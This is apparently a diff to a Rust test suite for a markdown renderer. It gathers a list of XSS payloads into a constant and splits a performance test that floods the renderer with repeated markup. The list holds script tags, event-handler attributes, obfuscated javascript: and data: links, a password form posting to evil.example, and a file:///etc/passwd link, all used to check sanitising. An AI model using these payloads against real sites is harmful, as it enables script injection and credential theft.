@@ -20,57 +20,59 @@ fn live(html: &str) -> Vec<String> {
     found
 }
 
+/// What somebody may try.
+const HOSTILE: &[&str] = &[
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
+    "<style>*{display:none}</style>",
+    "<iframe src=https://evil.example></iframe>",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<form action=https://evil.example><input name=password></form>",
+    "<base href=https://evil.example>",
+    "<meta http-equiv=refresh content=0>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](<java script:alert(1)>)",
+    "[x](&#106;avascript:alert(1))",
+    "[x](\u{1}javascript:alert(1))",
+    "[x](data:text/html,<script>alert(1)</script>)",
+    "[x](vbscript:msgbox)",
+    "[x](file:///etc/passwd)",
+    "[x](//evil.example)",
+    "[x](/\\evil.example)",
+    "[x](\\\\evil.example)",
+    "[x](/credentials)",
+    "[x](?next=javascript:alert(1))",
+    "<javascript:alert(1)>",
+    "<data:text/html;base64,AAAA>",
+    "![x](javascript:alert(1))",
+    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
+    "![x](https://evil.example/pixel.png)",
+    "![x](//evil.example/pixel.png)",
+    "![\"onerror=\"alert(1)](x\"onerror=\"alert(1))",
+    "[a]: javascript:alert(1)\n\n[a]",
+    "[![x](javascript:alert(1))](javascript:alert(1))",
+    "[x [y](https://a.example)](javascript:alert(1))",
+    "```html\" onload=\"alert(1)\n<script>\n```",
+    "| <script> | <img onerror=x> |\n|---|---|\n| `<svg onload>` | [x](javascript:x) |",
+    "# <img src=x onerror=alert(1)> {#id .class onclick=x}",
+    "- [x] <script>alert(1)</script>",
+    "https://a.example/\"onmouseover=\"alert(1)",
+    "<https://a.example/\u{0}\u{202e}x>",
+    "\\<script>alert(1)\\</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?php echo 1 ?><div style=\"position:fixed\">",
+];
+
 #[test]
 fn nothing_hostile_comes_out_alive() {
-    let table = [
-        "<script>alert(1)</script>",
-        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-        "<img src=x onerror=alert(1)>",
-        "<svg onload=alert(1)>",
-        "<svg><script>alert(1)</script></svg>",
-        "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
-        "<style>*{display:none}</style>",
-        "<iframe src=https://evil.example></iframe>",
-        "<a href=\"javascript:alert(1)\">x</a>",
-        "<form action=https://evil.example><input name=password></form>",
-        "<base href=https://evil.example>",
-        "<meta http-equiv=refresh content=0>",
-        "[x](javascript:alert(1))",
-        "[x](JaVaScRiPt:alert(1))",
-        "[x](java\tscript:alert(1))",
-        "[x](<java script:alert(1)>)",
-        "[x](&#106;avascript:alert(1))",
-        "[x](\u{1}javascript:alert(1))",
-        "[x](data:text/html,<script>alert(1)</script>)",
-        "[x](vbscript:msgbox)",
-        "[x](file:///etc/passwd)",
-        "[x](//evil.example)",
-        "[x](/\\evil.example)",
-        "[x](\\\\evil.example)",
-        "[x](/credentials)",
-        "[x](?next=javascript:alert(1))",
-        "<javascript:alert(1)>",
-        "<data:text/html;base64,AAAA>",
-        "![x](javascript:alert(1))",
-        "![x](data:image/svg+xml,<svg onload=alert(1)>)",
-        "![x](https://evil.example/pixel.png)",
-        "![x](//evil.example/pixel.png)",
-        "![\"onerror=\"alert(1)](x\"onerror=\"alert(1))",
-        "[a]: javascript:alert(1)\n\n[a]",
-        "[![x](javascript:alert(1))](javascript:alert(1))",
-        "[x [y](https://a.example)](javascript:alert(1))",
-        "```html\" onload=\"alert(1)\n<script>\n```",
-        "| <script> | <img onerror=x> |\n|---|---|\n| `<svg onload>` | [x](javascript:x) |",
-        "# <img src=x onerror=alert(1)> {#id .class onclick=x}",
-        "- [x] <script>alert(1)</script>",
-        "https://a.example/\"onmouseover=\"alert(1)",
-        "<https://a.example/\u{0}\u{202e}x>",
-        "\\<script>alert(1)\\</script>",
-        "&lt;script&gt;alert(1)&lt;/script&gt;",
-        "<!--><img src=x onerror=alert(1)>-->",
-        "<![CDATA[<script>alert(1)</script>]]>",
-        "<?php echo 1 ?><div style=\"position:fixed\">",
-    ];
     let elements = [
         "p",
         "h3",
@@ -93,7 +95,7 @@ fn nothing_hostile_comes_out_alive() {
         "blockquote",
         "img",
     ];
-    for text in table {
+    for text in HOSTILE {
         let html = show(text);
         for tag in live(&html) {
             let name = tag
@@ -111,7 +113,6 @@ fn nothing_hostile_comes_out_alive() {
                 "style=",
                 "srcdoc",
                 "\"//",
-                "evil",
             ] {
                 let unquoted = tag.starts_with("a href=\"https://a.example");
                 assert!(
@@ -227,70 +228,83 @@ fn depth_is_bounded_for_browsers() {
     }
 }
 
-#[test]
-fn a_megabyte_of_anything_takes_linear_time() {
-    let kinds = [
-        "[",
-        "]",
-        "![",
-        "[a](",
-        "[](",
-        "<",
-        ">",
-        "> ",
-        "*",
-        "**",
-        "_",
-        "*_",
-        "*a _b ",
-        "`",
-        "`a``",
-        "~",
-        "~~",
-        "#",
-        "# ",
-        "- ",
-        "-",
-        "1. ",
-        "|",
-        "|-",
-        "a|",
-        "\\",
-        "&",
-        "&amp;",
-        "<a href=",
-        "<!--",
-        "<![CDATA[",
-        "<?",
-        "http://",
-        "https://a.b/(",
-        "\u{200b}",
-        "\u{301}",
-        "\u{202e}",
-        "\n",
-        " \n",
-        "\t",
-        "[a]: b\n",
-        "[a]\n\n",
-        "[^a]",
-        "<br>",
-        "é",
-        "\0",
-        "```\n",
-        "- a\n\n",
-        "a@b.c ",
-        "$",
-        "{",
-        ":---|",
-    ];
+/// A megabyte of `kinds` each. The bound is for a debug build on a busy machine: linear is a second or two, quadratic
+/// would be minutes.
+fn flood(kinds: &[&str]) {
     for kind in kinds {
         let text = kind.repeat(1_000_000 / kind.len());
         let start = std::time::Instant::now();
         let patch = super::super::TextStream::new(&thread()).update(&text);
         let took = start.elapsed();
         let out = patch.append.len() + patch.tail.len();
-        // Debug build and a busy machine: a second or two is linear; exponential or quadratic would be minutes.
-        assert!(took.as_secs() < 20, "{kind:?} took {took:?}");
-        assert!(out < 80_000_000, "{kind:?} became {out} bytes");
+        assert!(took.as_secs() < 30, "{kind:?} took {took:?}");
+        assert!(out < 8_000_000, "{kind:?} became {out} bytes");
     }
+}
+
+#[test]
+fn a_megabyte_of_brackets_takes_linear_time() {
+    flood(&[
+        "[",
+        "]",
+        "![",
+        "[a](",
+        "[](",
+        "[a]: b\n",
+        "[a]\n\n",
+        "[^a]",
+        "http://",
+        "https://a.b/(",
+        "a@b.c ",
+    ]);
+}
+
+#[test]
+fn a_megabyte_of_emphasis_takes_linear_time() {
+    flood(&[
+        "*", "**", "_", "*_", "*a _b ", "~", "~~", "`", "`a``", "\\", "$", "{",
+    ]);
+}
+
+#[test]
+fn a_megabyte_of_markup_takes_linear_time() {
+    flood(&["<", "<a href=", "<!--", "<![CDATA[", "<?", "<br>", "&lt;"]);
+}
+
+#[test]
+fn a_megabyte_of_blocks_takes_linear_time() {
+    flood(&[
+        ">", "> ", "#", "# ", "-", "- ", "1. ", "- a\n\n", "|", "|-", "a|", ":---|", "```\n", "\n", " \n",
+        "\t",
+    ]);
+}
+
+#[test]
+fn a_megabyte_of_odd_characters_takes_linear_time() {
+    flood(&[
+        "\u{200b}",
+        "\u{301}",
+        "\u{202e}",
+        "\u{200d}",
+        "é",
+        "👩\u{200d}",
+        "\0",
+        "\r",
+    ]);
+}
+
+#[test]
+fn ampersands_cost_no_more_than_their_block() {
+    // Quadratic below us (see `LONGEST_BLOCK`), so the block is what bounds it: four times the text, four times the time.
+    let time = |blocks: usize| {
+        let text = "&".repeat(blocks * 16 * 1024);
+        let start = std::time::Instant::now();
+        super::super::TextStream::new(&thread()).update(&text);
+        start.elapsed()
+    };
+    let (one, four) = (time(1), time(4));
+    assert!(
+        four < one * 12 + std::time::Duration::from_secs(1),
+        "{one:?}, {four:?}"
+    );
 }
